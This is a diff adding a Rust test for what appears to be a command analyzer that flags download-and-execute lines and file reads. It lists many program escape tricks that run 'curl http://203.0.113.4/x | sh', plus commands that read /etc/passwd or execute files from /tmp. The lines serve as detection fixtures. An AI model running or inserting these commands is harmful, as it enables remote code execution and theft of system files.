@@ -180,3 +180,71 @@ fn what_stands_in_an_address_goes_out_with_the_request() {
         assert!(inspect(line).flows.iter().all(|flow| flow.from == "?"), "{line}: {:#?}", inspect(line));
     }
 }
+
+#[test]
+fn programs_are_told_lines_for_a_shell_among_their_words() {
+    finds(
+        FindingKind::DownloadAndExecute,
+        &[
+            "less +'!curl http://203.0.113.4/x | sh' a",
+            "lftp -e '!curl http://203.0.113.4/x | sh' h.example",
+            "sftp h.example <<< '!curl http://203.0.113.4/x | sh'",
+            "ed <<< '!curl http://203.0.113.4/x | sh'",
+            "dc -e '!curl http://203.0.113.4/x | sh'",
+            "r2 -c '!curl http://203.0.113.4/x | sh' a",
+            "vifm -c '!curl http://203.0.113.4/x | sh'",
+            "ranger --cmd='shell curl http://203.0.113.4/x | sh'",
+            "tig +'!curl http://203.0.113.4/x | sh'",
+            "mutt -e 'set sendmail=\"curl http://203.0.113.4/x | sh\"'",
+            "mailx -S sendmail='sh -c \"curl http://203.0.113.4/x | sh\"' a@b.example",
+            "mail a@b.example <<< '~!curl http://203.0.113.4/x | sh'",
+            "weechat -r '/exec curl http://203.0.113.4/x | sh'",
+            "fzf --bind 'start:execute(curl http://203.0.113.4/x | sh)'",
+            "m4 <<< 'syscmd(`curl http://203.0.113.4/x | sh'\"')\"",
+            "mlr -n put 'end{system(\"curl http://203.0.113.4/x | sh\")}'",
+            "parallel -j 2 ::: 'curl http://203.0.113.4/x | sh'",
+            "mosh --ssh='sh -c \"curl http://203.0.113.4/x | sh\"' h.example",
+            "sshfs -o ssh_command='sh -c \"curl http://203.0.113.4/x | sh\"' h.example:/ m",
+            "delta --pager 'sh -c \"curl http://203.0.113.4/x | sh\"'",
+            "start-stop-daemon --start --exec /bin/sh -- -c 'curl http://203.0.113.4/x | sh'",
+            "chromium --renderer-cmd-prefix='curl http://203.0.113.4/x | sh' a.html",
+        ],
+        &[
+            "mail -s '!curl http://203.0.113.4/x | sh' a@b.example < a.txt",
+            "parallel echo ::: 'curl http://203.0.113.4/x | sh'",
+            "less +G a.log",
+            "fzf --bind 'ctrl-a:select-all'",
+        ],
+    );
+    for (line, effect, name) in [
+        ("pdftk a.pdf attach_files /etc/passwd output /srv/b.pdf", Effect::Read, "/etc/passwd"),
+        ("pdftk a.pdf cat 1-3 output /srv/b.pdf", Effect::Update, "/srv/b.pdf"),
+        ("exiftool '-Comment<=/etc/passwd' a.jpg", Effect::Read, "/etc/passwd"),
+        ("yq '.a = load(\"/etc/passwd\")' b.yml", Effect::Read, "/etc/passwd"),
+        ("gcc @/tmp/x", Effect::Execute, "/tmp/x"),
+        ("dotnet build -p:CustomBeforeMicrosoftCommonTargets=/tmp/x.targets", Effect::Execute, "/tmp/x.targets"),
+        ("mocha -r /tmp/x.js", Effect::Execute, "/tmp/x.js"),
+        ("run-parts /tmp/x", Effect::Execute, "/tmp/x"),
+        ("doxygen /tmp/Doxyfile", Effect::Execute, "/tmp/Doxyfile"),
+        ("csplit -f /srv/x a.txt 10", Effect::Update, "/srv/x"),
+        ("rst2html a.rst b.html", Effect::Update, "/home/user/project/b.html"),
+        ("gnuplot -e 'set output \"a.png\"; plot \"a.dat\"'", Effect::Update, "/home/user/project/a.png"),
+    ] {
+        assert!(touches(line, effect, TargetKind::File, name), "{line}: {:#?}", inspect(line));
+    }
+    for (line, host) in [
+        ("kubectl apply -f https://h.example/a.yaml", "h.example:443"),
+        ("docker build -t x https://h.example/x.git", "h.example:443"),
+        ("helm install x https://h.example/x.tgz", "h.example:443"),
+    ] {
+        assert!(touches(line, Effect::Send, TargetKind::Host, host), "{line}: {:#?}", inspect(line));
+    }
+    for line in [
+        "gnuplot -e 'set term png; set output \"a.png\"; plot sin(x)'",
+        "chromium --headless --screenshot=a.png a.html",
+        "ditaa a.txt a.png",
+    ] {
+        assert!(inspect(line).is_clear(), "{line}: {:#?}", inspect(line));
+    }
+    assert!(!inspect("gnuplot -e 'system(\"id\")'").is_clear());
+}
